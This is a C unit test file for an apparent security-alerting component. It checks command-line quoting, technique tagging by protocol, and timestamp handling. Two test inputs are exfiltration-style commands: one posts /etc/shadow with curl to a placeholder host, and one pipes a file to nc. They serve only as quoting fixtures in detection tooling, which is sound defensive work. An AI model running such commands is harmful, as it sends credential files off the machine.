/* SPDX-License-Identifier: GPL-2.0-or-later */

/* Names, dates, command lines and techniques of an alert, and that it owns them. */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "alert/alert.h"
#include "basic/util.h"
#include "../alert-fixture.h"

static Alert *make(const Event *e) {
        Alert *a = NULL;

        assert_int_equal(alert_new(e, &policy, &names, &epoch, 0, &a), 0);
        return a;
}

static void test_new(void **state) {
        (void)state;
        Event e = event_new();
        char cgroup[] = "/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef/x";
        e.correlation.process.cgroup = view(cgroup);
        e.correlation.classes |= BIT(AWS);
        _cleanup_(alert_freep) Alert *a = make(&e);

        /* It owns its strings. */
        memset(cgroup, 'x', sizeof(cgroup) - 1);
        assert_string_equal(a->process.cgroup.data,
                        "/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef/x");
        assert_string_equal(a->process.container.data,
                        "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
        assert_int_equal(a->process.unit.size, 0);
        assert_null(a->process.unit.data);

        assert_string_equal(a->id, EVENT_ID);
        assert_true(a->realtime_usec == 1795341901023456);
        assert_true(a->process.start_realtime_usec == 1795341900023456);

        /* Each once, the worst class's first. */
        assert_string_equal(a->techniques[0], "T1552.004");
        assert_string_equal(a->techniques[1], "T1552.001");
        assert_string_equal(a->techniques[2], "T1041");
        assert_null(a->techniques[3]);

        char id[64];
        alert_id_format(id, &epoch, UINT64_MAX, UINT32_MAX);
        assert_string_equal(id, "0123456789abcdef0123456789abcdef-ffffffffffffffff-ffffffff");

        assert_null(alert_free(NULL));
}

static void test_cmdline(void **state) {
        (void)state;
        static const struct {
                const char *bytes;
                size_t size;
                bool cut;
                const char *text;
        } cases[] = {
#define CASE(b, cut, t) { b, sizeof(b) - 1, cut, t }
                CASE("", false, ""),
                CASE("", true, ""),
                CASE("curl", false, "curl"),
                CASE("azAZ09", false, "azAZ09"),
                CASE("curl\0-d\0@/etc/shadow\0http://h:1/a%20=+_,.", false,
                                "curl -d @/etc/shadow http://h:1/a%20=+_,."),
                CASE("sh\0-c\0cat x | nc y", false, "sh -c 'cat x | nc y'"),
                CASE("a\0\0b", false, "a '' b"),
                CASE("a\0", false, "a ''"),
                CASE("\0\0", false, "'' '' ''"),
                CASE("it's", false, "'it'\\''s'"),
                CASE("'''", false, "''\\'''\\'''\\'''"),
                CASE("'\0'\0'", false, "''\\''' ''\\''' ''\\'''"),
                CASE("\"q\"\0a\\b\0$x\0*\0a\tb\0~", false, "'\"q\"' 'a\\b' '$x' '*' 'a\tb' '~'"),
                CASE("f\xc3\xbcr\0\xff", false, "f\xc3\xbcr \xff"),
                CASE("a\0bc", true, "a bc…"),
                CASE("'", true, "''\\'''…"),
#undef CASE
        };

        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                Event e = event_new();
                e.correlation.process.cmdline = (Bytes){ .data = cases[i].bytes, .size = cases[i].size };
                e.correlation.flags = cases[i].cut ? BW_CORRELATION_CMDLINE_CUT : 0;

                _cleanup_(alert_freep) Alert *a = make(&e);
                assert_int_equal(a->process.cmdline.size, strlen(cases[i].text));
                if (cases[i].text[0] == '\0')
                        assert_null(a->process.cmdline.data);
                else
                        assert_string_equal(a->process.cmdline.data, cases[i].text);
        }
}

/* The longest command line, made of the bytes that grow most: the buffer must suffice (ASan checks). */
static void test_cmdline_growth(void **state) {
        (void)state;
        static const char *const units[] = { "'", "\0", "'\0", "\0'", " \0", "''\0" };
        static const size_t unit_sizes[] = { 1, 1, 2, 2, 2, 3 };

        for (size_t i = 0; i < ELEMENTSOF(units); i++)
                for (size_t size = 1; size <= BW_CMDLINE_SIZE; size += size < 16 ? 1 : 31) {
                        char bytes[BW_CMDLINE_SIZE + 1] = "";
                        for (size_t j = 0; j < size; j++)
                                bytes[j] = units[i][j % unit_sizes[i]];

                        Event e = event_new();
                        e.correlation.process.cmdline = (Bytes){ .data = bytes, .size = size };
                        e.correlation.flags = BW_CORRELATION_CMDLINE_CUT;
                        _cleanup_(alert_freep) Alert *a = make(&e);
                        assert_true(a->process.cmdline.size <= size * 4 + 2 + strlen("…"));
                }
}

static void test_techniques_and_protocols(void **state) {
        (void)state;
        static const struct {
                uint16_t protocol, port;
                const char *technique, *name;
        } cases[] = {
                { 6, 443, "T1041", "tcp" },
                { 6, 53, "T1071.004", "tcp" },
                { 17, 53, "T1071.004", "udp" },
                { 17, 443, "T1048", "udp" },
                { 1, 0, "T1048", "icmp" },
                { 58, 0, "T1048", "icmpv6" },
                { 0, 1, "T1048", "unknown" },
                { 132, 1, "T1048", "sctp" },
                { 33, 1, "T1048", "dccp" },
                { 136, 1, "T1048", "udplite" },
                { 255, 0, "T1048", "raw" },
                { 262, 1, "T1048", "mptcp" },
                { 47, 0, "T1048", "47" },
                { 65535, 0, "T1048", "65535" },
        };

        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                Event e = event_new();
                e.correlation.classes = BIT(APP);
                e.correlation.destination.protocol = cases[i].protocol;
                e.correlation.destination.port = cases[i].port;

                _cleanup_(alert_freep) Alert *a = make(&e);
                assert_string_equal(a->techniques[0], cases[i].technique);
                assert_null(a->techniques[1]);
                assert_string_equal(a->destination.protocol, cases[i].name);
        }
}

static void test_dates_out_of_range(void **state) {
        (void)state;
        static const int64_t epochs[] = { INT64_MAX, INT64_MIN };

        for (size_t i = 0; i < ELEMENTSOF(epochs); i++) {
                Event e = event_new();
                AlertEpoch odd = { .realtime_minus_boottime_usec = epochs[i] };
                Alert *a = NULL;

                assert_int_equal(alert_new(&e, &policy, &names, &odd, 0, &a), 0);
                assert_true(a->realtime_usec == 0);
                a = alert_free(a);
        }
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_new),
                cmocka_unit_test(test_cmdline),
                cmocka_unit_test(test_cmdline_growth),
                cmocka_unit_test(test_techniques_and_protocols),
                cmocka_unit_test(test_dates_out_of_range),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
